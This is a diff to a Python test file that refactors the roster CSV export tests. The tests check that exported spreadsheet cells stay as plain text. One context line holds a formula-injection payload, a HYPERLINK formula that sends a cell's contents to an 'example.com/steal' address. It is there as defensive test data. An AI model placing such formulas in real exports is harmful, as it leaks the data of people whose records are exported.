@@ -14,10 +14,11 @@ from bot.clock import FixedClock
 from bot.services.csv_export import safe_cell
 from bot.services.roles import Audit
 from bot.services.sessions.roster import roster_csv
+from cards.sessions import RosterLine
 from storage.db import Database
-from storage.repositories.sessions import RosterEntry
 from tests.cli_helpers import ROOT, run_cli
 from tests.test_counts import NOW, Seeder, many
+from vocabulary.words import InvitationStatus
 
 HYPERLINK = '=HYPERLINK("https://example.com/steal?d="&A1,"Click here")'
 # One of each way a cell can start a formula, plus a tab and a carriage return hiding one.
@@ -85,8 +86,8 @@ async def test_audit_csv_keeps_every_cell_as_text(db: Database, db_url: str, tmp
 
 
 def test_roster_csv_keeps_names_and_e_mails_as_text() -> None:
-    entries = [RosterEntry("accepted", None, risky, risky + "@nhs.net") for risky in RISKY]
-    entries.append(RosterEntry("waiting", 1, "Ada Lovelace", "ada@nhs.net"))
+    entries = [RosterLine(InvitationStatus.ACCEPTED, None, risky, risky + "@nhs.net") for risky in RISKY]
+    entries.append(RosterLine(InvitationStatus.WAITING, 1, "Ada Lovelace", "ada@nhs.net"))
 
     rows = read(roster_csv(entries).decode("utf-8"))
 
